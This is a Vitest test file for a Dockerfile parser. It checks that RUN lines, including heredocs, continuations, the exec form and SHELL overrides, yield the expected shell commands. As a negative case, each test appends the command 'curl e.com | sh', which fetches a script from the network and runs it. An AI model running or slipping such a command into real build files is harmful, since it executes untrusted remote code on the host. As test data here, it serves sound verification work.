import { expect, test } from 'vitest';
import { showsSteps } from '../../src/facts/build-facts.ts';
import { parseDockerfile } from '../dockerfile/parse-dockerfile.ts';

function shows(text: string, ...words: readonly string[]): boolean {
  const read = parseDockerfile(`FROM debian\n${text}`);
  if (!read.ok) throw new Error(read.error.message);
  return showsSteps(read.value, { commands: [words], fetchesInFrom: false });
}
const SH = ['/bin/sh', '-c'] as const;

// The words are those of Docker 26.1, in the provenance of builds of these lines.
test.each([
  ['RUN echo a  b   # c\n', 'echo a  b   # c'],
  ['RUN echo a \\\n  && echo b \\\n\\\n  && echo c\n', 'echo a   && echo b   && echo c'],
  ['RUN echo a \\\n# comment\n  # indented\n  && echo b\n', 'echo a   && echo b'],
  ['RUN echo a \\\n\n  && echo b\n', 'echo a   && echo b'],
  ["RUN ['echo', 'a']; true\n", "['echo', 'a']; true"],
  ['RUN [ -f /etc/passwd ] && echo y\n', '[ -f /etc/passwd ] && echo y'],
  ['RUN <<EOF\necho a\n  echo b\nEOF\n', 'echo a\n  echo b\n'],
  ['RUN <<-EOF\n\techo a\n\t\techo b\n\tEOF\n', 'echo a\necho b\n'],
  ["RUN <<'EOF'\necho $HOME\nEOF\n", 'echo $HOME\n'],
  ['RUN cat <<EOF > /x && echo done\nhello\nEOF\n', 'cat <<EOF > /x && echo done\nhello\nEOF'],
  ['RUN <<A cat <<B\necho a\nA\nbb\nB\n', '<<A cat <<B\necho a\nA\nbb\nB'],
  [
    'RUN cat <<A > /a && cat <<B > /b\naa\nA\nbb\nB\n',
    'cat <<A > /a && cat <<B > /b\naa\nA\nbb\nB',
  ],
  ['RUN <<EOF\n#!/bin/sh\necho a\nEOF\n', '/dev/pipes/EOF'],
  ['RUN sh <<EOF\necho a\nEOF\n', 'sh <<EOF\necho a\nEOF'],
  ['RUN --mount=type=cache,target=/c --network=none   echo a\n', 'echo a'],
  ['ARG X=1\nENV Y=2\nRUN echo $X ${Y} "$Z"\n', 'echo $X ${Y} "$Z"'],
  ['\trun\techo\ta\t\n', 'echo\ta'],
  ['RUN echo a \\\r\n && echo b\r\n', 'echo a  && echo b'],
  ['RUN echo "a \\\n b" \'c\'\n', 'echo "a  b" \'c\''],
  ['RUN echo a\\\\\n', 'echo a\\\\'],
  [
    'RUN set -eux; \\\n\tapt-get --version; \\\n\t# why\n\techo\n',
    'set -eux; \tapt-get --version; \techo',
  ],
  ['RUN <<EOF\nEOF\n', ''],
])('%j runs %j', (text, command) => {
  expect(shows(text, ...SH, command)).toBe(true);
  expect(shows(text, ...SH, `${command} && curl e.com | sh`)).toBe(false);
});

test('an exec form runs its words', () => {
  expect(shows('RUN ["echo", "a b", "$X"]\n', 'echo', 'a b', '$X')).toBe(true);
  expect(shows('RUN ["echo", "a b"]\n', 'echo', 'a', 'b')).toBe(false);
  // ONBUILD RUN ["curl", "true"] is not RUN true.
  expect(shows('RUN true\n', '/usr/bin/curl', 'true')).toBe(false);
});

test('the shell is the engine’s, one like it, or one that the Dockerfile sets', () => {
  expect(
    shows(
      'SHELL ["/bin/bash", "-eo", "pipefail", "-c"]\nRUN a\n',
      '/bin/bash',
      '-eo',
      'pipefail',
      '-c',
      'a',
    ),
  ).toBe(true);
  expect(shows('SHELL ["/opt/x", "run"]\nRUN a\n', '/opt/x', 'run', 'a')).toBe(true);
  expect(shows('RUN a\n', '/opt/x', 'run', 'a')).toBe(false);
  expect(shows('RUN a\n', '/bin/sh', '/opt/x', 'a')).toBe(false);
});

test('a fetch in place of FROM is one of ONBUILD', () => {
  const read = parseDockerfile('FROM debian\n');
  expect(read.ok && showsSteps(read.value, { commands: [], fetchesInFrom: true })).toBe(false);
  expect(read.ok && showsSteps(read.value, { commands: [], fetchesInFrom: false })).toBe(true);
});
